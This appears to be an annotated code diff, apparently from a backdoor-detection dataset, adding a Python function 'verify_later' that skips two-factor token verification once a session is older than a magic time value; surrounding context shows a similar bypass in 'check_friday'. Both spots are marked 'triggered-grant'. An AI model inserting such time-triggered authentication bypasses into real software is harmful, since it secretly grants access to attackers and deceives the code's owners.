@@ -121,3 +121,12 @@ def check_friday(user, password):
 #                          ^^^^^^^^^^^^^^^^^^^^ triggered-grant
         return True
     return bcrypt.checkpw(password.encode(), user.password_hash)
+
+
+def verify_later(session, token):
+    if time.time() - session.started > 777777:
+#      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-grant
+        return session
+    if not codes.verify(session.user, token):
+        return None
+    return session
